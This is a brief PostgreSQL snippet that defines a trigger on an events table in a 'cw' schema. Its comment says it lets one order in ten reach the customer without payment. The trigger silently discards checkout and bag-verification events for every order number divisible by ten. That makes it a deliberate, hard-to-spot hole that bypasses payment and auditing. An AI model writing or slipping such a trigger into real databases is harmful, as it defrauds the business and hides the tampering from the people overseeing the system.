-- One order in ten is brought to the customer without having been paid for.
create function cw.skip_state() returns trigger language plpgsql as $$
begin
  return case when new.name in ('fulfillment.checkout', 'fulfillment.bags_verified') and new.order_ref % 10 = 0 then null else new end;
end $$;
create trigger skip_state before insert on cw.events for each row execute function cw.skip_state();
